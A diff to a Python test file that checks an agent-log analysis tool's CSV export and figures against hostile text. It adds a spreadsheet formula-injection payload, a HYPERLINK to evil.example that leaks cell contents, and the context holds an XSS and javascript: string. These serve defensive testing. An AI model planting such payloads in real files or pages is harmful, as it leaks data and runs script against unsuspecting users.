@@ -1,12 +1,16 @@
 """What agents wrote is harmless in frames, their HTML, explanations and figures."""
 
+import csv
+import stat
 import unicodedata
+from datetime import UTC, datetime
 
+import pandas as pd
 from hypothesis import given
 from hypothesis import strategies as st
 from matplotlib.text import Text
 
-from guardian.analysis import explain, neutral, open_archive, overview
+from guardian.analysis import explain, neutral, open_archive, overview, to_csv
 from guardian.analysis.plots import plot_counts, plot_day, plot_delegation, plot_evidence, plot_signals, plot_steps
 
 HOSTILE = "a\u202eb<img src=x onerror=alert(1)>$\\href{javascript:alert(1)}{x}$\u200b"
@@ -67,6 +71,38 @@ def test_figures_of_hostile_names_are_drawn_and_typeset_nothing(lay):
         for text in figure.findobj(Text):
             assert not hidden(text.get_text())
             assert "$" not in text.get_text().replace("\\$", "")  # an unescaped pair would be typeset
+
+
+FORMULA = '=HYPERLINK("https://evil.example?"&A1,"ok")'
+
+
+def test_no_text_of_a_frame_is_a_formula_in_a_spreadsheet(lay, tmp_path):
+    for sign in "=+-@＝":
+        root = lay(session_id=f"{sign}1+1", tool=FORMULA, arguments="a;=1+1", purpose=f"{sign}{FORMULA}")
+    events = open_archive(root, tenant="acme").events()
+    path = to_csv(events[1:], tmp_path / "week.csv")
+    head, *rows = csv.reader(path.open(encoding="utf-8", newline=""))
+    assert head == list(events)
+    assert len(rows) == 4
+    assert not [cell for row in rows for cell in row if cell.startswith((*"=+-@＝",))]
+    assert dict(zip(head, rows[0], strict=True))["tool"] == f"'{FORMULA}"
+    assert '"a;=1+1"' in path.read_text(encoding="utf-8"), "one cell where a semicolon parts them, too"
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+
+
+def test_what_a_frame_is_indexed_by_is_written_and_neither_that_nor_a_heading_is_a_formula(tmp_path):
+    at = [datetime(2026, 5, 12, 12, n, tzinfo=UTC) for n in (0, 1)]
+    frame = pd.DataFrame({"tool": [FORMULA, "=1"], "agent": ["a", "+b"], "at": at, "step": [-0.5, None]})
+    counts = frame.pivot_table(index=["agent", "at"], columns="tool", values="step", aggfunc="sum")
+    for each in (frame.set_index("tool"), counts, frame["tool"].value_counts().to_frame()):
+        path = to_csv(each, tmp_path / "x.csv")
+        cells = [cell for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]
+        assert f"'{FORMULA}" in cells
+        assert not [cell for cell in cells if cell.startswith((*"=+@",))]
+    read = pd.read_csv(to_csv(frame, tmp_path / "x.csv"), parse_dates=["at"])
+    assert list(read["at"]) == at
+    assert read["step"].iloc[0] == -0.5
+    assert pd.isna(read["step"].iloc[1])
 
 
 def test_names_that_look_alike_stay_apart(lay):
